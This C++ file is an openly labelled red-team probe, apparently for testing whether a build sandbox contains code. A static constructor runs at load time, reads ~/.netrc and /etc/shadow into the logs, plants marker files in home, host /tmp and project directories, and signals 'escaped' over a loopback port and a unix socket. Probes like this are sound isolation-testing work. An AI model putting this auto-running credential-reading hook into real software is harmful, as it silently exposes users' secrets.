// Red-team candidate static_init: reads secrets, writes $HOME and the host's /tmp, connects to 127.0.0.1 and a unix socket, from a static initializer.
#include <fcntl.h>
#include <netinet/in.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

static void leak(const char* path) {  // a secret printed lands in the build log and the worker log
    char buf[256] = {0};
    int fd = open(path, O_RDONLY);
    if (fd >= 0 && read(fd, buf, sizeof buf - 1) > 0) printf("LEAK %s: %s\n", path, buf);
    if (fd >= 0) close(fd);
}

static void mark(const char* dir) {
    char path[512];
    snprintf(path, sizeof path, "%s/redteam-escaped-static_init", dir);
    int fd = open(path, O_WRONLY | O_CREAT, 0644);
    if (fd >= 0) close(fd);
}

__attribute__((constructor)) static void attack() {
    leak("@@HOME@@/.netrc");
    leak("/etc/shadow");
    mark("@@HOME@@");
    mark("@@HOSTTMP@@");
    mark("@@PROJECT@@");
    int s = socket(AF_INET, SOCK_STREAM, 0);
    sockaddr_in a{};
    a.sin_family = AF_INET;
    a.sin_port = htons(@@PORT@@);
    a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    if (s >= 0 && connect(s, (sockaddr*)&a, sizeof a) == 0) write(s, "escaped", 7);
    if (s >= 0) close(s);
    int u = socket(AF_UNIX, SOCK_STREAM, 0);
    sockaddr_un ua{};
    ua.sun_family = AF_UNIX;
    strncpy(ua.sun_path, "@@SOCKET@@", sizeof ua.sun_path - 1);
    if (u >= 0 && connect(u, (sockaddr*)&ua, sizeof ua) == 0) write(u, "escaped", 7);
    if (u >= 0) close(u);
}
